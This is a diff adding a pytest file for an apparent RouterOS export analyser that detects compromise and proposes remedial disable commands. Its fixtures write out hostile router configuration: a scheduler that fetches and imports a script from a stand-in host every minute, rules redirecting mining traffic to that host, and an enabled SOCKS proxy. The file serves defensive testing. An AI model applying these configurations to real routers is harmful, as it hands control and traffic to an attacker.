@@ -1,0 +1,47 @@
+"""What only strangers set up, and what they may have: named with what ends it, and no more."""
+
+from __future__ import annotations
+
+import pytest
+
+from rosexplain import explain, read_export
+from rosexplain.report import Answer
+
+FETCH = '"/tool fetch url=http://198.18.0.1/a.rsc; /import a.rsc"'
+SEARCH = (
+    "/ip firewall mangle\nadd action=add-dst-to-address-list address-list=pool "
+    "chain=prerouting content=mining.submit protocol=tcp\n"
+)
+REDIRECT = (
+    "/ip firewall nat\nadd action=dst-nat chain=dstnat dst-address-list=pool "
+    "protocol=tcp to-addresses=198.18.0.1 to-ports=3333\n"
+)
+KEPT = "add action=dst-nat chain=dstnat dst-port=443 protocol=tcp to-addresses=192.168.88.7\n"
+
+
+@pytest.mark.parametrize(
+    ("export", "typed"),
+    [
+        ("/system scheduler\nadd interval=1m name=a on-event=" + FETCH,
+         ["/system/scheduler/disable [find name=a]"]),
+        ("/system scheduler\nadd interval=1m name=a on-event=b\n"
+         "/system script\nadd name=b source=" + FETCH, ["/system/scheduler/disable [find name=a]"]),
+        ("/system scheduler\nadd interval=1m name=a on-event=c\n"
+         "/system script\nadd name=b source=" + FETCH, []),
+        ("/system scheduler\nadd disabled=yes interval=1m name=a on-event=" + FETCH, []),
+        (SEARCH + REDIRECT + KEPT,
+         ["/ip/firewall/mangle/disable [find where chain=prerouting"
+          " action=add-dst-to-address-list !dynamic]",
+          "/ip/firewall/nat/disable [:pick [find where chain=dstnat action=dst-nat !dynamic] 0]"]),
+        (SEARCH + "/ip firewall raw\nadd action=drop chain=prerouting dst-address-list=pool", []),
+        (SEARCH.replace("mining.submit", "films.example") + REDIRECT, []),
+        ("/ip socks\nset enabled=yes port=4153", ["/ip/socks/set enabled=no"]),
+        ("/ip socks\nset port=4153", []),
+    ],
+)  # fmt: skip
+def test_a_remedy_ends_what_strangers_set_up_alone(export: str, typed: list[str]) -> None:
+    read = read_export("# by RouterOS 7.20\n" + export + "\n", "export.rsc")
+    rules = ("commands-fetched", "mining-redirected", "socks-on")
+    notes = Answer(explain([read])).plain()["notes"]
+    commands = [command for note in notes if note["rule"] in rules for command in note["commands"]]
+    assert commands == typed
